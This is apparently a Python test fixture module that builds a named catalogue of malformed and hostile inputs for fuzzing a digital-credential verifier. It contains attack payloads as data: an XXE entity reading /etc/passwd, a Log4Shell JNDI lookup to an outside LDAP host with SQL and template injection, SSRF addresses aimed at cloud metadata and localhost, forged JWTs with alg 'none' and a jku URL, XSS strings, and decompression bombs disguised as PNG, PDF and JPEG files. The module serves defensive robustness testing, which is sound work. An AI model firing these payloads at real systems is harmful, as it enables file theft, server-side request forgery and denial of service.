# ruff: noqa: E501  (one thing to send, one line)
"""What somebody may send to make a verifier answer wrongly, fall over, wait or spend: bytes of every sort, by name.

Source: RELIABILITY A7. All of it is small to make; `INPUTS` is what fits a request, and none of it is genuine.
"""

from __future__ import annotations

import gzip
import io
import itertools
import json
import struct
import zlib
from typing import TYPE_CHECKING, Any

from PIL import Image

from passerelle.core.credentials import jose
from passerelle.core.credentials.certificate import qr
from passerelle.core.credentials.open_badges import open_badge
from tests.core.credentials.paper_samples import RECORD, text_of
from tests.core.credentials.samples import AWARDER, signed

if TYPE_CHECKING:
    from collections.abc import Callable

MEGABYTES_8 = 8 * 1024 * 1024
GENUINE = json.dumps(signed(RECORD), ensure_ascii=False, separators=(",", ":")).encode()
METHOD = f"{AWARDER}#key-2"


def badge(**changes: Any) -> bytes:
    """A badge of ours, signed by nobody but with proofs as ours have them."""
    return json.dumps(signed(RECORD) | changes).encode()


def clique(nodes: int = 9) -> list[dict[str, Any]]:
    """Blank nodes that all look alike, each pointing to all others: every order of them has to be tried."""
    names = [f"https://poison.example/{number}" for number in range(nodes)]
    return [{"type": ["Evidence"], "name": "x", "narrative": "x", "genre": name, "audience": "x"} for name in names]


def poisoned() -> bytes:
    """A badge full of parts that only their neighbours tell apart (none), nested as deep as may be."""
    document = signed(RECORD)
    achievement = document["credentialSubject"]["achievement"]
    part: Any = {"type": ["Alignment"], "targetName": "x", "targetUrl": "https://a.example/1"}
    achievement["alignment"] = [part | {"targetCode": "x"} for _ in range(900)]
    return json.dumps(document).encode()


def token(header: dict[str, Any], payload: bytes = b"{}", signature: bytes = bytes(64)) -> bytes:
    return b".".join(jose.encoded(part) for part in (json.dumps(header).encode(), payload, signature))


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG that says it is so large, with these chunks and nothing else."""
    header = (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    body = b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in (header, *chunks, (b"IEND", b""))
    )
    return b"\x89PNG\r\n\x1a\n" + body


def zip_bomb() -> bytes:
    """Forty megabytes of zeros in a few thousand bytes, as a picture is packed."""
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(bytes(1 << 20)) for _ in range(40)]) + packer.flush()


def gif(frames: int) -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x01\x00\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + frame * frames + b";"


def jpeg(scans: int, *, side: int = 5000) -> bytes:
    """A progressive JPEG in which the last pass over all pixels comes again and again: 60 bytes each."""
    target = io.BytesIO()
    Image.new("L", (side, side), 255).save(target, "JPEG", progressive=True, quality=30)
    raw = target.getvalue()
    return raw[:-2] + raw[raw.rindex(b"\xff\xda") : -2] * scans + raw[-2:]


def pdf(*streams: bytes, dictionary: bytes = b"/Filter /FlateDecode") -> bytes:
    """A PDF with embedded files, or what looks like them."""
    objects = b"".join(
        b"%d 0 obj << /Type /EmbeddedFile %s /Length %d >> stream\n%s\nendstream endobj\n"
        % (number, dictionary, len(stream), stream)
        for number, stream in enumerate(streams, start=1)
    )
    return b"%PDF-1.7\n" + objects + b"%%EOF\n"


def _bytes() -> dict[str, Callable[[], bytes]]:
    return {
        "one zero": lambda: b"\0",
        "white space alone": lambda: b" \r\n\t" * 20_000,
        "a byte order mark before it": lambda: b"\xef\xbb\xbf" + GENUINE,
        "UTF-16": lambda: GENUINE.decode().encode("utf-16"),
        "UTF-32": lambda: GENUINE.decode().encode("utf-32"),
        "gzip": lambda: gzip.compress(GENUINE),
        "gzip of gzip of zeros": lambda: gzip.compress(gzip.compress(bytes(10 << 20))),
        "a ZIP": lambda: b"PK\x03\x04" + bytes(200),
        "HTML": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
        "XML that asks for a file": lambda: (
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
        ),
        "an SVG": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "comments before no drawing": lambda: b"<!---->" * 500,
        "all bytes": lambda: bytes(range(256)) * 40,
        "invalid UTF-8": lambda: b'{"name":"\xff\xfe\xc0\x80"}',
        "a lone surrogate": lambda: b'{"name":"\\ud800"}',
        "surrogates as bytes": lambda: b'{"name":"\xed\xa0\x80"}',
        "a line of a log": lambda: b"${jndi:ldap://x.example/a} {{7*7}} %s%s%n ' OR 1=1 --",
    }


def _json() -> dict[str, Callable[[], bytes]]:
    deep = 100_000
    return {
        "a hundred thousand brackets": lambda: b"[" * deep + b"]" * deep,
        "a hundred thousand objects": lambda: b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
        "brackets never closed": lambda: b'{"a":' + b"[" * 250_000,
        "brackets in a string": lambda: b'{"a":"' + b"[" * 250_000 + b'"}',
        "quotes never closed": lambda: b'{"a":"' + b'\\"' * 120_000,
        "a thousand names twice": lambda: b"{" + b",".join([b'"a":1'] * 30_000) + b"}",
        "one of many names twice": lambda: b"{" + b",".join(b'"k%d":0' % number for number in range(22_000)) + b',"k21999":1}',
        "many names": lambda: b"{" + b",".join(b'"k%d":0' % number for number in range(25_000)) + b"}",
        "names of one hash": lambda: json.dumps({f"{number}\u0000": number for number in range(9_000)}).encode(),
        "a number without end": lambda: b'{"a":' + b"9" * 250_000 + b"}",
        "a fraction without end": lambda: b'{"a":0.' + b"1" * 250_000 + b"}",
        "a great exponent": lambda: b'{"a":1e999999999}',
        "not a number": lambda: b'{"a":NaN,"b":Infinity}',
        "a context somewhere else": lambda: badge(**{"@context": ["https://www.w3.org/ns/credentials/v2", "http://169.254.169.254/latest"]}),
        "a context written out": lambda: badge(**{"@context": [{"@vocab": "http://127.0.0.1:9/"}]}),
        "a context that is a number": lambda: badge(**{"@context": 7}),
        "a context of many": lambda: badge(**{"@context": [f"https://x.example/{n}" for n in range(5_000)]}),
        "a list of a type": lambda: badge(type={"VerifiableCredential": 1}),
        "an issuer of lists": lambda: badge(issuer=[[[{"id": [AWARDER]}]]]),
        "an issuer that is text in objects": lambda: badge(issuer={"id": {"id": AWARDER}}),
        "a subject of nothing": lambda: badge(credentialSubject=None),
        "a subject of many": lambda: badge(credentialSubject=[{"id": f"urn:x:{n}"} for n in range(3_000)]),
        "a status of many": lambda: badge(credentialStatus=[{"type": "BitstringStatusListEntry"}] * 3_000),
        "a status that points to the machine": lambda: badge(credentialStatus={"type": "BitstringStatusListEntry", "statusListCredential": "http://127.0.0.1/"}),
        "a proof of a number": lambda: badge(proof=7),
        "proofs without end": lambda: badge(proof=[signed(RECORD)["proof"]] * 200),
        "a proof of lists": lambda: badge(proof={name: [name] for name in ("type", "cryptosuite", "verificationMethod", "proofPurpose", "proofValue")}),
        "a proof value without end": lambda: badge(proof=_with(proofValue="z" + "2" * 200_000)),
        "a proof that ends with the calendar": lambda: badge(proof=_with(expires="9999-12-31T23:59:59Z")),
        "dates of another calendar": lambda: badge(validFrom="99999-01-01T00:00:00Z", validUntil="-1"),
        "a date with an offset of days": lambda: badge(validFrom="0001-01-01T00:00:00+23:59", validUntil="9999-12-31T23:59:59-23:59"),
        "a poison graph": poisoned,
        "evidence that looks alike": lambda: badge(evidence=clique()),
        "many parts": lambda: badge(evidence=[{"type": ["Evidence"]}] * 1_900),
        "too many parts": lambda: badge(evidence=[{"type": ["Evidence"]}] * 9_000),
        "names from Python": lambda: badge(**{"__class__": {}, "__proto__": {"a": 1}, "constructor": 1}),
        "a record of records": lambda: _record(30),
    }  # fmt: skip


def _with(**said: str) -> Any:
    proofs = signed(RECORD)["proof"]
    return [proof | said for proof in (proofs if isinstance(proofs, list) else [proofs])]


def _record(parts: int) -> bytes:
    document = signed(RECORD)
    inner = {name: value for name, value in document.items() if name != "proof"}
    return json.dumps(
        document | {"type": ["VerifiableCredential", "ClrCredential"], "credentialSubject": {"type": ["ClrSubject"], "verifiableCredential": [inner] * parts}}
    ).encode()  # fmt: skip


def _tokens() -> dict[str, Callable[[], bytes]]:
    header = {"alg": "ES256", "kid": METHOD, "typ": "vc+jwt"}
    return {
        "an empty token": lambda: b"ey..",
        "a token of nothing but dots": lambda: b"ey" + b"." * 250_000,
        "nothing but tildes": lambda: b"ey.e30.~" + b"~" * 250_000,
        "a token signed by nobody": lambda: token(header | {"alg": "none"}),
        "a token of a shared secret": lambda: token(header | {"alg": "HS256"}),
        "a token with a key inside": lambda: token(header | {"jwk": {"kty": "EC"}, "jku": "http://127.0.0.1/"}),
        "a token packed": lambda: token(header | {"zip": "DEF"}, zlib.compress(bytes(10 << 20))),
        "a token that must be understood": lambda: token(header | {"crit": ["x"], "x": 1}),
        "a key of lists": lambda: token(header | {"kid": [METHOD]}),
        "a payload of brackets": lambda: token(header, b"[" * 100_000),
        "a payload of a badge": lambda: token(header, json.dumps(open_badge(RECORD)).encode()),
        "a header of brackets": lambda: b".".join((jose.encoded(b"[" * 20_000), b"e30", b"AA")),
        "many disclosures": lambda: token({"alg": "ES256", "kid": METHOD, "typ": "dc+sd-jwt"}) + b"~WyJhIiwiYiIsMV0" * 12_000 + b"~",
        "a disclosure of brackets": lambda: token({"alg": "ES256", "kid": METHOD, "typ": "dc+sd-jwt"}) + b"~" + jose.encoded(b"[" * 150_000) + b"~",
        "an envelope in an envelope": lambda: json.dumps({"@context": ["https://www.w3.org/ns/credentials/v2"], "type": "EnvelopedVerifiableCredential", "id": "data:application/vc+jwt,data:application/vc+jwt,ey.."}).encode(),
        "another address in an envelope": lambda: json.dumps({"@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["EnvelopedVerifiableCredential"], "id": "http://127.0.0.1/#data:application/vc+jwt,"}).encode(),
    }  # fmt: skip


def _papers() -> dict[str, Callable[[], bytes]]:
    said = text_of()
    return {
        "a code of letters alone": lambda: b"A" * 2_000,
        "a code without end": lambda: b"A" * 250_000,
        "a code of another site": lambda: b"HTTPS://EVIL.EXAMPLE/V#" + said.partition("#")[2].encode(),
        "an address without end": lambda: b"https://register.example/" + b"a" * 200_000 + b"#A",
        "a code that runs a script": lambda: b"javascript:alert(1)#AAAA",
        "a code with its bits turned": lambda: said[:-40].encode() + b"7" * 40,
        "an address of many marks": lambda: b"https://" + b"#" * 4_000,
    }


def _carriers() -> dict[str, Callable[[], bytes]]:
    packed = zlib.compress(bytes(30 << 20))
    return {
        "a picture of a billion pixels": lambda: png(60_000, 60_000, (b"IDAT", zlib.compress(b"\0"))),
        "a picture of one long line": lambda: png(70_000, 1, (b"IDAT", zlib.compress(bytes(280_001)))),
        "a picture of no pixels": lambda: png(0, 0, (b"IDAT", b"")),
        "a picture with sides past all counting": lambda: png(0x7FFFFFFF, 0x7FFFFFFF),
        "a bomb that says it is a picture": lambda: png(3_000, 3_000, (b"IDAT", zip_bomb())),
        "a text in a picture that swells": lambda: png(9, 9, (b"zTXt", b"a\0\0" + zlib.compress(bytes(20 << 20)))),
        "a profile in a picture that swells": lambda: png(9, 9, (b"iCCP", b"a\0\0" + zlib.compress(bytes(20 << 20)))),
        "a picture cut short": lambda: qr.png(text_of())[:900],
        "half a PNG, half a PDF": lambda: qr.png("https://evil.example/")[:200] + pdf(zlib.compress(GENUINE)),
        "a GIF of half a million frames": lambda: gif(500_000),
        "a GIF without a frame": lambda: gif(0),
        "a JPEG that starts and ends": lambda: b"\xff\xd8\xff\xd9",
        "a JPEG of ten thousand passes": lambda: jpeg(10_000),
        "a WebP of nothing": lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(40),
        "a picture without a code": _blank,
        "a code that says nothing of ours": lambda: qr.png("https://register.example/V#AAAA"),
        "a PDF of nothing": lambda: b"%PDF-",
        "a PDF cut short": lambda: pdf(zlib.compress(GENUINE))[:700],
        "a PDF that swells": lambda: pdf(packed),
        "a PDF that swells in sixteen places": lambda: pdf(*[packed] * 16),
        "a PDF of a thousand files": lambda: pdf(*[zlib.compress(b"{}")] * 1_000),
        "a PDF of marks": lambda: b"%PDF-1.7\n" + b"/EmbeddedFile " * 500_000,
        "a PDF of streams": lambda: b"%PDF-1.7\n" + b"obj << /EmbeddedFile >> stream\n" * 100_000,
        "a PDF that says a great length": lambda: pdf(b"{}", dictionary=b"/Length 99999999"),
        "two credentials in one PDF": lambda: pdf(zlib.compress(GENUINE), zlib.compress(GENUINE.replace(b"merit", b"other"))),
        "a PDF in a PDF": lambda: pdf(zlib.compress(pdf(zlib.compress(GENUINE.replace(b"merit", b"other"))))),
        "a PDF with a bent credential": lambda: pdf(zlib.compress(GENUINE.replace(b"merit", b"other"))),
    }  # fmt: skip


def _blank() -> bytes:
    target = io.BytesIO()
    Image.new("L", (2_000, 1_500), 255).save(target, "PNG")
    return target.getvalue()


INPUTS: dict[str, Callable[[], bytes]] = {
    name: make
    for name, make in itertools.chain.from_iterable(
        group.items() for group in (_bytes(), _json(), _tokens(), _papers(), _carriers())
    )
}
